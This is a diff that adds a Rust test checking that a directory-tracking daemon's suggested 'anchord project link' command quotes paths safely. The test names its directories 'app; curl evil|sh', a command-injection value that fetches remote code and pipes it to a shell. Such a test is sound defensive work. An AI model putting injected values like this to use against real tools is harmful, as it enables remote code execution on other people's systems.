@@ -557,3 +557,17 @@ fn a_memory_of_the_directory_above_is_named_with_the_ways_to_go_on() {
     daemon.write(&located);
     assert_eq!(daemon.read(&located).notice(&located, &daemon.0), None);
 }
+
+#[test]
+fn a_directorys_name_chooses_no_command() {
+    let scratch = Scratch::new();
+    let dir = scratch.dir("app; curl evil|sh");
+    let mut daemon = Daemon::default();
+    let id = daemon.write(&scratch.locate(&dir)).id;
+    let copy = scratch.path.join("a copy; curl evil|sh");
+    copy_tree(&dir, &copy);
+    let notice = daemon.write(&scratch.locate(&copy)).notice.unwrap();
+    let (_, command) = notice.split_once("anchord project").unwrap();
+    let words = shlex::split(command).unwrap();
+    assert_eq!(words, ["link", copy.to_str().unwrap(), "--project", &id.to_string()]);
+}
